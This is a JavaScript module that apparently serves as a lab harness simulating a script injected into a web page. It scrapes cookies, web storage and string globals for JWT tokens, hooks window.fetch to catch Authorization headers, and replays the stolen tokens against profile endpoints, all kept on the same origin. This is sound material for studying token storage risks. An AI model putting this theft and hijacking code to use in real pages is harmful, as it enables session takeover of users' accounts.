// UNSAFE TO COPY. It plays a script that got into the page: a poisoned package, or text that was shown as HTML.
// It imports nothing and is told nothing: it takes what any script on the page can reach. What it takes stays here.

const TOKEN = /eyJ[\w-]+\.[\w-]+\.[\w-]+/;
const PAGES = { session: "/session/profile", token: "/token/profile" };

/** What can be read at once, by place; null where nothing was found. */
export function read() {
  return {
    session: cookie("sot_sid"),
    cookie: cookie("sot_access"),
    sessionStorage: tokenIn(Object.values(sessionStorage)),
    localStorage: tokenIn(Object.values(localStorage)),
    memory: tokenIn(globals()),
  };
}

/** Take the place of `fetch` and wait; return what ends that and tells which token came by. */
export function lieInWait() {
  const own = window.fetch;
  let caught = null;
  window.fetch = (input, options) => {
    caught ??= tokenIn([new Headers(options?.headers ?? input.headers).get("Authorization") ?? ""]);
    return own(input, options);
  };
  return () => {
    window.fetch = own;
    return caught;
  };
}

/** Send a request from here, as the page would: the browser adds its cookies, and the stolen token goes in the header. */
export function use(place, stolen) {
  if (place !== "session" && place !== "cookie" && stolen === null) return null;
  return stolen === null ? whoAmI(PAGES[place === "session" ? "session" : "token"], {}, "same-origin") : whoAmI(PAGES.token, bearer(stolen), "omit");
}

/** Send what another machine could send: what was read, and no cookie of this browser. */
export function useElsewhere(place, stolen) {
  return whoAmI(PAGES[place === "session" ? "session" : "token"], stolen === null ? {} : bearer(stolen), "omit");
}

async function whoAmI(path, headers, credentials) {
  const response = await fetch(path, { headers, credentials });
  return (await response.json()).member?.username ?? null;
}

function bearer(token) {
  return { Authorization: `Bearer ${token}` };
}

function cookie(name) {
  return document.cookie.split("; ").find((pair) => pair.startsWith(`${name}=`))?.slice(name.length + 1) ?? null;
}

function tokenIn(texts) {
  return texts.map((text) => text.match(TOKEN)?.[0]).find(Boolean) ?? null;
}

/** The page's global variables that hold text; a property that computes its value is left alone. */
function globals() {
  const found = Object.values(Object.getOwnPropertyDescriptors(window)).map(({ value }) => value);
  return found.filter((value) => typeof value === "string");
}
